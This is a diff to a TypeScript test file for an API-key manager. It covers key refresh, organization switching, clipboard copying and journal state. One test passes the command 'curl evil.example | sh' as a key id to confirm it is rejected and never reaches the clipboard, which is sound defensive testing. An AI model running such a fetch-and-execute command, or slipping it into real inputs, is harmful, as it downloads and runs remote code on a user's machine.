@@ -1,11 +1,11 @@
 import { AppError } from '@shared/errors'
-import { aKey, anOrganization, connectedApp } from '@support/fakes'
+import { aKey, anOrganization, connectedApp, settled } from '@support/fakes'
 import { expect, test } from 'vitest'
 
 test('refreshes at the same time share one flight', async () => {
   const { core, horizon, profileId } = await connectedApp()
   horizon.listKeys.mockClear()
-  const refresh = () => core.handlers['keys.refresh']({ profileId })
+  const refresh = () => core.handlers['keys.refresh']({ profileId, isBackground: false })
   const [one, other] = await Promise.all([refresh(), refresh()])
   expect(horizon.listKeys).toHaveBeenCalledOnce()
   expect(one).toEqual(other)
@@ -17,7 +17,7 @@ test('a refused secret keeps what is held, counts once at Horizon and says what 
   horizon.organization.mockRejectedValueOnce(
     new AppError('invalid-admin-secret', 'No', { status: 401 })
   )
-  const list = await core.handlers['keys.refresh']({ profileId })
+  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
   expect(list.keys).toHaveLength(1)
   expect(list.failure).toMatchObject({
     code: 'invalid-admin-secret',
@@ -30,8 +30,12 @@ test('a refused secret keeps what is held, counts once at Horizon and says what 
 test('a failure goes with the next success', async () => {
   const { core, horizon, profileId } = await connectedApp()
   horizon.listKeys.mockRejectedValueOnce(new AppError('timeout', 'slow'))
-  expect((await core.handlers['keys.refresh']({ profileId })).failure?.code).toBe('timeout')
-  expect((await core.handlers['keys.refresh']({ profileId })).failure).toBeUndefined()
+  expect(
+    (await core.handlers['keys.refresh']({ profileId, isBackground: false })).failure?.code
+  ).toBe('timeout')
+  expect(
+    (await core.handlers['keys.refresh']({ profileId, isBackground: false })).failure
+  ).toBeUndefined()
 })
 
 test('the first organization seen is remembered on the profile', async () => {
@@ -44,7 +48,7 @@ test('another organization’s keys do not replace what is held', async () => {
   const { core, machine, profileId } = await connectedApp()
   machine.remote.state.organization = anOrganization({ id: 'org_2', name: 'Other' })
   machine.remote.state.keys = [aKey({ id: 'key_foreign' })]
-  const list = await core.handlers['keys.refresh']({ profileId })
+  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
   expect(list.keys.map(({ id }) => id)).toEqual(['key_1'])
   expect(list.otherOrganization).toMatchObject({ remembered: 'Acme', answering: { id: 'org_2' } })
   const wrong = core.handlers['profiles.acceptOrganization']({ profileId, organizationId: 'org_3' })
@@ -54,17 +58,21 @@ test('another organization’s keys do not replace what is held', async () => {
 test('a Horizon that names no organization any more counts as another one', async () => {
   const { core, machine, profileId } = await connectedApp()
   machine.remote.state.organization = null
-  const { otherOrganization } = await core.handlers['keys.refresh']({ profileId })
+  const { otherOrganization } = await core.handlers['keys.refresh']({
+    profileId,
+    isBackground: false
+  })
   const organizationId = otherOrganization?.answering.id ?? ''
   await core.handlers['profiles.acceptOrganization']({ profileId, organizationId })
-  const list = await core.handlers['keys.refresh']({ profileId })
+  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
   expect(list).toMatchObject({ organization: null, otherOrganization: undefined })
 })
 
 test('endpoints that are closed or absent do not close the list', async () => {
-  const { core, horizon, profileId } = await connectedApp()
+  const { core, horizon, machine, profileId } = await connectedApp()
+  machine.remote.state.hasKeyEndpoint = false
   horizon.features.mockRejectedValueOnce(new AppError('forbidden', 'no', { status: 403 }))
-  const list = await core.handlers['keys.refresh']({ profileId })
+  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
   expect(list).toMatchObject({ hasExtensions: false, failure: undefined })
 })
 
@@ -78,7 +86,7 @@ test('a list that was asked for before a create ended does not hide the new key'
         answer = () => resolve(old)
       })
   )
-  const refreshing = core.handlers['keys.refresh']({ profileId })
+  const refreshing = core.handlers['keys.refresh']({ profileId, isBackground: false })
   const draft = { clientName: 'CI', scopes: ['agents:read'], expiresAt: null }
   await core.handlers['keys.create']({ profileId, draft })
   answer()
@@ -93,4 +101,35 @@ test('only the id of a held key goes on the clipboard', async () => {
   const other = core.handlers['keys.copyId']({ keyId: 'curl evil.example | sh' })
   await expect(other).rejects.toMatchObject({ code: 'not-found' })
   expect(machine.clipboard.text).toBe('key_1')
+})
+
+test('a journal that cannot be written is said with the list, before anyone types', async () => {
+  const { core, profileId, data } = await connectedApp()
+  const list = () => core.handlers['keys.list']({ profileId })
+  expect((await list()).isJournalReadOnly).toBe(false)
+  data.data.journal.isReadOnly = true
+  expect((await list()).isJournalReadOnly).toBe(true)
+})
+
+test('an accepted organization’s keys are fetched, also where a list is on its way', async () => {
+  const { core, horizon, machine, profileId } = await connectedApp()
+  machine.remote.state.organization = anOrganization({ id: 'org_2', name: 'Other' })
+  machine.remote.state.keys = [aKey({ id: 'key_of_org_2' })]
+  await core.handlers['keys.refresh']({ profileId, isBackground: false })
+  const inner = horizon.listKeys.getMockImplementation()
+  const answered = Promise.withResolvers<void>()
+  horizon.listKeys.mockImplementationOnce(async signal => {
+    await answered.promise
+    return inner?.(signal) ?? { keys: [], unreadable: [], clockOffsetMs: 0 }
+  })
+  const onItsWay = core.handlers['keys.refresh']({ profileId, isBackground: false })
+  await settled()
+  await core.handlers['profiles.acceptOrganization']({ profileId, organizationId: 'org_2' })
+  horizon.listKeys.mockClear()
+  answered.resolve()
+  await onItsWay
+  await settled()
+  expect(horizon.listKeys).toHaveBeenCalledOnce()
+  const { keys } = await core.handlers['keys.list']({ profileId })
+  expect(keys.map(({ id }) => id)).toEqual(['key_of_org_2'])
 })
